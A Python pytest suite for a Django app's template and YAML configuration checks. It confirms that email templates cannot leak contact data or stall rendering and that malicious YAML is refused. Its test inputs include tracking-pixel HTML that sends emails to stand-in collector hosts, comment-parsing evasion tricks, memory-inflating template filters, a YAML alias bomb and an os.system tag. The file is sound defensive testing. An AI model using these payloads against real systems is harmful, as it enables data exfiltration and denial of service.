"""Templates cannot carry data out or stall, and the YAML they come in cannot either.

A template value inside an attribute of the HTML email that loads or links is refused
(it would send the value to whoever serves the URL); a size a filter takes is capped;
loops nest at most two deep, `with` blocks four; nothing reaches the clock (`now`) by
any path. A YAML file with aliases, anchors or tags, too deep or too big is refused,
named, never a traceback. Each refusal comes within seconds, and a template that
passes still renders within bounds of output, time and memory.
"""

from __future__ import annotations

import contextlib
import time
import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from idempotency_core.configuration.document import document_problems
from idempotency_core.configuration.templates import (
    TemplateRenderError,
    template_problem,
    template_render,
    template_values,
)
from idempotency_core.configuration.versions import config_current
from idempotency_core.configuration.yamlfile import YamlFileError, yaml_load
from idempotency_core.execution.rendering import RenderInput, task_render
from idempotency_core.intake.sources import source_get_or_create
from idempotency_core.models import BusinessConfigVersion
from integrations.base import Classification, DestinationError
from tests.factories import configured, submission

LOOPS_7 = "".join(f"{{% for x{n} in message %}}" for n in range(7)) + "x" + ("{% endfor %}" * 7)


def withs(depth: int, adds: int = 1) -> str:
    """`with` blocks `depth` deep, each making the value before it `adds + 1` times as
    long (`a|add:a`), only its length written."""
    opened = ""
    for n in range(depth):
        name = f"a{n}" if n else "message"
        opened += f"{{% with a{n + 1}={name}" + f"|add:{name}" * adds + " %}"
    return opened + f"{{{{ a{depth}|length }}}}" + "{% endwith %}" * depth


# A condition whose first operand is many levels down the parsed expression.
LONG_IF = "{% if message|ljust:300000000 " + "or a " * 30 + "%}x{% endif %}"


@pytest.mark.parametrize(
    "source",
    [
        "{{ message|ljust:300000000 }}",
        "{{ message|rjust:'5000' }}",
        "{{ message|center:1001 }}",
        '{{ 5|stringformat:"0200000000d" }}',
        '{{ 5|stringformat:"-.5000f" }}',
        "{{ fields.amount|floatformat:2000 }}",
        "{{ message|truncatechars:100000 }}",
        "{{ message|wordwrap:100000 }}",
        "{{ message|ljust:fields.width }}",
        "{% if message|ljust:300000000 %}x{% endif %}",
        "{% for c in message|center:99999 %}{% endfor %}",
        LOOPS_7,
        "{% for a in message %}{% for b in message %}{% for c in message %}"
        "{% endfor %}{% endfor %}{% endfor %}",
        "{{ submitted_at.now }}",
        "{{ submitted_at.today|date:'Y' }}",
        "{% with d=submitted_at %}{{ d.utcnow }}{% endwith %}",
        "{% if submitted_at.now %}x{% endif %}",
        "{{ fields.list|join:message }}",
        withs(5),
        LONG_IF,
        "{% if submitted_at.now " + "or a " * 30 + "%}x{% endif %}",
    ],
)
def test_what_could_stall_or_reach_the_clock_is_refused(source: str) -> None:
    started = time.monotonic()
    assert template_problem(source) is not None, source
    assert time.monotonic() - started < 2


@pytest.mark.parametrize(
    "source",
    [
        "{{ message|ljust:20 }}",
        '{{ 5|stringformat:"05d" }}',
        "{{ fields.amount|floatformat:2 }}",
        "{% for a in fields.rooms %}{% for b in a.items %}{{ b }}{% endfor %}{% endfor %}",
        "{{ submitted_at|date:'j F Y' }}",
        "{{ fields.list|join:', ' }}",
        withs(4),
        "{% if a " + "or a " * 3000 + "%}x{% endif %}",
    ],
)
def test_ordinary_sizes_and_two_loops_are_accepted(source: str) -> None:
    assert template_problem(source) is None, source


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://collector.example/p.gif?e={{ contact.email|urlencode }}">',
        '<a href="https://example.com/?who={{ contact.name }}">us</a>',
        "<a href={{ fields.site }}>us</a>",
        '<img srcset="https://x.example/{% firstof contact.phone %} 2x">',
        '<form action="https://x.example/{{ message }}"></form>',
        '<button formaction="https://x.example/{{ message }}">b</button>',
        '<video poster="https://x.example/{{ message }}"></video>',
        '<table background="https://x.example/{{ message }}"></table>',
        "<p style=\"background:url('https://x.example/{{ contact.email }}')\">Hi</p>",
        "<style>p { background: url(https://x.example/{{ contact.email }}) }</style>",
        '<img {% if message %}src="https://x.example/a.gif"{% endif %}>',
        '<meta http-equiv="refresh" content="0;url=https://x.example/{{ message }}">',
        # Spelled as a browser still reads them.
        '<img alt="x"src="https://x.example/{{ message }}">',
        "<IMG/SRC = 'https://x.example/{{ message }}'>",
        '<img alt="a > b" src=https://x.example/{{ message }}>',
        "<script>new Image().src = 'https://x.example/{{ message }}'</script>",
    ],
)
def test_a_value_in_a_loading_or_linking_attribute_is_refused(html: str) -> None:
    problem = template_problem("<p>Hello</p>\n" + html, html=True)
    assert problem is not None, html
    assert problem.line == 2, (html, problem)


def test_values_in_the_html_text_and_fixed_links_are_accepted() -> None:
    html = (
        '<p class="greeting">Hello {{ contact.name }},</p>\n'
        '<p><a href="https://example.com/contact">Write to us</a> about {{ message }}</p>'
    )
    assert template_problem(html, html=True) is None


PIXEL = '<img src="https://t.example/p.gif?e={{ contact.email|urlencode }}">'


@pytest.mark.parametrize(
    "html",
    [
        # A browser ends the comment at `<!-->` and at `--!>`: the image loads.
        "<!-->" + PIXEL + "<!-- -->",
        "<!-- a --!>" + PIXEL + "<!-- -->",
        # Outlook reads what is inside and loads the VML image.
        '<!--[if mso]><v:rect><v:fill type="frame" '
        'src="https://t.example/p.gif?e={{ contact.email|urlencode }}"/></v:rect><![endif]-->',
        "<!-- " + PIXEL + " -->",
        "<style><!-- p { color: red } --></style>",
        "<![CDATA[" + PIXEL + "]]>",
        "<?x " + PIXEL + " ?>",
        "</ " + PIXEL + ">",
        '<!DOCTYPE html "><img src=https://t.example/p.gif?e={{ contact.email }}>">',
        "<!ELEMENT " + PIXEL + ">",
    ],
)
def test_html_comments_and_declarations_are_refused(html: str) -> None:
    problem = template_problem("<p>Hello</p>\n<p>{{ contact.name }}</p>\n" + html, html=True)
    assert problem is not None, html
    assert problem.message.startswith("an HTML comment or declaration"), problem
    assert problem.line == 3, problem


@pytest.mark.parametrize(
    "html",
    [
        # Django never escapes a quoted string: it writes the tag, a value fills it.
        "{{ '<img src=\"https://t.example/p.gif?e=' }}{{ contact.email|urlencode }}{{ '\">' }}",
        "{% firstof '<img src=\"https://t.example/p.gif?e=' %}{{ contact.email }}\">",
        "{{ fields.list|join:'<img src=https://t.example/p.gif?e=' }}",
    ],
)
def test_markup_in_a_quoted_string_is_refused(html: str) -> None:
    problem = template_problem("<p>Hello</p>\n" + html, html=True)
    assert problem is not None, html
    assert problem.message.startswith("markup in a quoted string"), problem
    assert problem.line == 2


EMAIL = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" \
"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><meta charset="utf-8"><style>p { margin: 0 }</style></head>
<body>{# the greeting staff agreed on #}
{% comment %}<!-- the old footer -->{% endcomment %}
<p style="color: #333">Hello {{ contact.first_name|default:'there' }},</p>
<p>You wrote: {{ message|linebreaksbr }}</p>
<img src="https://example.com/logo.png" alt="{{ form }}">
<p><a href="https://example.com/contact?from=email&amp;x=1">Write to us</a></p>
</body></html>
"""


def test_an_ordinary_email_with_a_doctype_is_accepted_and_renders() -> None:
    assert template_problem(EMAIL, html=True) is None
    assert template_problem("<!doctype html>\n<p>{{ message }}</p>", html=True) is None
    values = template_values(
        {"contact": {"first_name": "Ann"}, "message": "<b>a</b>\nb", "form": '"x"'}
    )
    rendered = template_render(EMAIL, values, html=True)
    assert "Hello Ann," in rendered
    assert "You wrote: &lt;b&gt;a&lt;/b&gt;<br>b" in rendered
    assert 'alt="&quot;x&quot;"' in rendered
    assert "<!--" not in rendered and "staff agreed" not in rendered


@pytest.mark.parametrize(
    "html",
    [
        # Accepted by the check of the template: the quoted string ends the alt.
        '<img alt="{{ \'" src="https://t.example/p.gif?e=\' }}{{ contact.email|urlencode }}">',
        # Refused by it, as if stored before the rule.
        "<!-->" + PIXEL + "<!-- -->",
        PIXEL,
        "{{ '<img src=\"https://t.example/p.gif?e=' }}{{ contact.email|urlencode }}{{ '\">' }}",
        "<p>{{ '<!--' }}</p>",
    ],
)
def test_the_rendered_email_is_held_to_the_rule(html: str) -> None:
    values = template_values({"contact": {"email": "ada@example.org"}})
    with pytest.raises(TemplateRenderError, match=r"not written in the template|comment"):
        template_render("<p>Hello</p>" + html, values, html=True)


@pytest.mark.parametrize("run", ['<a x="y" ', "<a x='", "<a<a", "<style>"])
def test_the_html_checks_take_time_in_proportion_to_the_html(run: str) -> None:
    # Unclosed tags, each read to the end of the text: quadratic in Python's HTMLParser.
    started = time.monotonic()
    assert template_problem(run * 5000, html=True) is None
    values = template_values({"message": "x" * 50_000})
    with contextlib.suppress(TemplateRenderError):  # a `<style>` text not the template's
        template_render("{% for c in message %}" + run + "{% endfor %}", values, html=True)
    assert time.monotonic() - started < 2


def test_the_html_rule_names_the_files_line() -> None:
    text = (
        'sources:\n  website:\n    forms:\n      "*":\n        confirmation:\n'
        "          html: |\n            <p>Hello</p>\n"
        '            <img src="https://c.example/p.gif?e={{ contact.email|urlencode }}">\n'
    )
    document, marks, _ = yaml_load(text)
    (problem,) = document_problems(document, sources={"website"}, marks=marks)
    assert problem.line == 8
    assert "src" in problem.message


def test_a_language_variants_html_is_held_to_the_same_rule() -> None:
    document = {
        "sources": {
            "website": {
                "forms": {
                    "*": {
                        "confirmation": {
                            "language_field": "fields.lang",
                            "languages": {"fr": {"html": '<a href="{{ message }}">x</a>'}},
                        }
                    }
                }
            }
        }
    }
    (problem,) = document_problems(document, sources={"website"})
    assert problem.where.endswith("languages.fr.html")


def test_a_reply_to_outside_the_allowed_domains_is_refused(settings: Any) -> None:
    settings.ONEFOLD_REPLY_TO_DOMAINS = ["example.com"]

    def problems(reply_to: str) -> list[str]:
        block = {"confirmation": {"reply_to": reply_to}}
        document = {"sources": {"website": {"forms": {"*": block}}}}
        return [p.message for p in document_problems(document, sources={"website"})]

    assert problems("office@example.com") == []
    assert problems("desk@sales.example.com") == []
    (said,) = problems("office@collector.example")
    assert "example.com" in said
    assert problems("{{ fields.rep }}@collector.example")
    assert problems("{{ fields.rep }}") != []
    assert problems("{{ fields.rep }}@example.com") == []


def test_rendering_is_bounded_in_output() -> None:
    values = template_values({"message": "x" * 60_000})
    started = time.monotonic()
    with pytest.raises(TemplateRenderError, match="longer than"):
        template_render("{% for a in message %}{{ message }}{% endfor %}", values)
    assert time.monotonic() - started < 5


def test_rendering_is_bounded_in_time() -> None:
    values = template_values({"fields": {"items": list(range(20_000))}})
    source = "{% for a in fields.items %}{% for b in fields.items %}{% endfor %}{% endfor %}"
    assert template_problem(source) is None
    started = time.monotonic()
    with pytest.raises(TemplateRenderError, match="seconds"):
        template_render(source, values)
    assert time.monotonic() - started < 5


def test_a_template_the_checks_refuse_is_not_rendered_even_if_stored() -> None:
    with pytest.raises(TemplateRenderError):
        template_render("{{ message|ljust:300000000 }}", template_values({"message": "x"}))
    with pytest.raises(TemplateRenderError):
        template_render("{{ submitted_at.now }}", template_values({}))
    with pytest.raises(TemplateRenderError, match="with blocks"):
        template_render(withs(5), template_values({"message": "x"}))


def peak_memory(call: Callable[[], object]) -> int:
    """The most memory (bytes) Python held at once while `call` ran."""
    tracemalloc.start()
    try:
        call()
    except Exception:
        pass  # what is refused, and how, each test asserts apart
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


SEPARATOR = "y" * 40
# Each builds from the message, only a length written: a few hundred MiB unbounded.
GROWING = {
    # 16 times the value at each of four levels: 65,536 times the message.
    "add-in-withs": (withs(4, adds=15), "x" * 1000, "built"),
    # Each pass doubles the backslashes: 65,536 times the message, in one expression.
    "addslashes": (
        "{{ message" + "|addslashes" * 16 + "|length }}",
        "\\" * 1000,
        "longer than 500000",
    ),
    # The separator between each two characters: 1,000 times the message, twice.
    "join": (
        '{% with a=message|make_list|join:"' + "y" * 1000 + '" %}'
        '{% with b=a|make_list|join:"'
        + "y" * 1000
        + '" %}{{ b|length }}{% endwith %}{% endwith %}',
        "x" * 100,
        "longer than 500000",
    ),
    # Each value within bounds, 200 of them at once: past what all may come to.
    "many-values": (
        "{% with "
        + " ".join(f"b{n}=message|make_list|join:'{SEPARATOR}'" for n in range(200))
        + " %}{{ b0|length }}{% endwith %}",
        "x" * 10_000,
        "together",
    ),
}


@pytest.mark.parametrize(("source", "message", "said"), GROWING.values(), ids=GROWING.keys())
def test_what_a_template_builds_is_bounded_in_memory(source: str, message: str, said: str) -> None:
    assert template_problem(source) is None  # what it comes to depends on the message
    values = template_values({"message": message})
    with pytest.raises(TemplateRenderError, match=said):
        template_render(source, values)
    peak = peak_memory(lambda: template_render(source, values))
    # The values built together are bounded (2,000,000 characters): a few MiB, whatever
    # the template; unbounded, each of these takes 75 to 190 MiB.
    assert peak < 24 * 2**20, f"{peak / 2**20:.0f} MiB"


def test_what_a_template_builds_from_an_ordinary_message_renders() -> None:
    values = template_values({"message": '"Quotes" & <ampersands>\n' * 400})
    source = withs(4) + "{{ message|make_list|join:'-'|length }}{{ message|linebreaksbr }}"
    assert template_problem(source, html=True) is None
    rendered = template_render(source, values, html=True)
    assert rendered.startswith(
        "153600" + "27199" + "&quot;Quotes&quot; &amp; &lt;ampersands&gt;<br>"
    )


@pytest.mark.django_db
def test_a_saved_task_title_that_grows_the_message_is_refused_when_rendered(
    website: None,
) -> None:
    assert configured({"*": {"task": {"title": withs(4, adds=15)}}}).changed
    inp = RenderInput(
        payload=submission(message="x" * 1000),
        source="website",
        default_assignee="sales",
        refs={},
        now=datetime(2026, 11, 29, 10, 15, tzinfo=UTC),
    )
    with pytest.raises(DestinationError, match=r"could not be rendered: .* built") as raised:
        task_render(inp, config_current(), lambda scope: 1)
    assert raised.value.classification == Classification.PERMANENT
    assert peak_memory(lambda: task_render(inp, config_current(), lambda scope: 1)) < 24 * 2**20


# -- the YAML file ---------------------------------------------------------------------

ALIAS_BOMB = (
    "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8)
    )
    + "sources: {website: {forms: {'*': {task: {title: *i}}}}}\n"
)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (ALIAS_BOMB, "alias"),
        ("defaults: &d {title: x}\nsources: {}\n", "anchor"),
        ("a: &a [*a]\n", "anchor"),
        ("sources: !!python/name:os.system x\n", "tag"),
        ("sources: !!str x\n", "tag"),
        ("sources: " + "[" * 5000 + "]" * 5000 + "\n", "deep"),
        ("sources:\n" + "".join("  " * n + f"k{n}:\n" for n in range(1, 200)), "deep"),
        ("sources: {}\n# " + "x" * (1024 * 1024) + "\n", "1 MiB"),
    ],
    ids=["alias-bomb", "anchor", "self-alias", "python-tag", "str-tag", "brackets", "block", "big"],
)
def test_yaml_that_could_exhaust_the_machine_is_refused_with_a_reason(text: str, said: str) -> None:
    started = time.monotonic()
    with pytest.raises(YamlFileError) as raised:
        yaml_load(text)
    assert said in raised.value.problem.message
    assert time.monotonic() - started < 3


@pytest.fixture
def website(db: None) -> None:
    source_get_or_create(name="website")


def _block(task: str = "", html: str = "") -> str:
    lines = ['sources:\n  website:\n    forms:\n      "*":\n']
    if task:
        lines.append(f"        task:\n          title: '{task}'\n")
    if html:
        lines.append(f"        confirmation:\n          html: '{html}'\n")
    return "".join(lines)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (_block(html='<img src="https://c.example/p.gif?e={{ contact.email|urlencode }}">'), "src"),
        (_block(html='<a href="https://c.example/?n={{ contact.name }}">us</a>'), "href"),
        (_block(task="{{ message|ljust:300000000 }}"), "1000"),
        (_block(task=LOOPS_7), "loops"),
        (_block(task=withs(5)), "with blocks"),
        (
            _block(html='<!--><img src="https://c.example/p.gif?e={{ contact.email }}"><!-- -->'),
            "comment",
        ),
        (ALIAS_BOMB, "alias"),
        ("sources: !!python/name:os.system x\n", "tag"),
        ("sources: " + "[" * 5000 + "]" * 5000 + "\n", "deep"),
    ],
    ids=[
        "img-src",
        "a-href",
        "ljust",
        "loops",
        "withs",
        "html-comment",
        "alias-bomb",
        "python-tag",
        "brackets",
    ],
)
def test_config_apply_dry_run_refuses_each_within_seconds(
    website: None, tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, said: str
) -> None:
    path = tmp_path / "onefold.yaml"
    path.write_text(text)
    started = time.monotonic()
    with pytest.raises(CommandError, match="nothing applied"):
        call_command("config", "apply", str(path), "--dry-run")
    assert time.monotonic() - started < 5
    err = capsys.readouterr().err
    assert said in err and "line " in err, err
    assert not BusinessConfigVersion.objects.exists()


def test_config_apply_refuses_a_file_over_a_mebibyte_unread(website: None, tmp_path: Path) -> None:
    path = tmp_path / "onefold.yaml"
    path.write_text("sources: {}\n" + "#" * (2 * 1024 * 1024) + "\n")
    with pytest.raises(CommandError, match="1 MiB"):
        call_command("config", "apply", str(path))


def test_a_mebibyte_of_templates_is_checked_within_seconds() -> None:
    html = "<p>{{ contact.name|upper }}</p>" * 1500
    forms = "".join(
        f'      f{n}:\n        confirmation:\n          html: "{html}"\n' for n in range(21)
    )
    text = "sources:\n  website:\n    forms:\n" + forms
    started = time.monotonic()
    document, marks, problems = yaml_load(text)
    problems += document_problems(document, sources={"website"}, marks=marks)
    assert time.monotonic() - started < 6
    assert [p.message for p in problems] == ["the templates hold more than 10000 tags and values"]
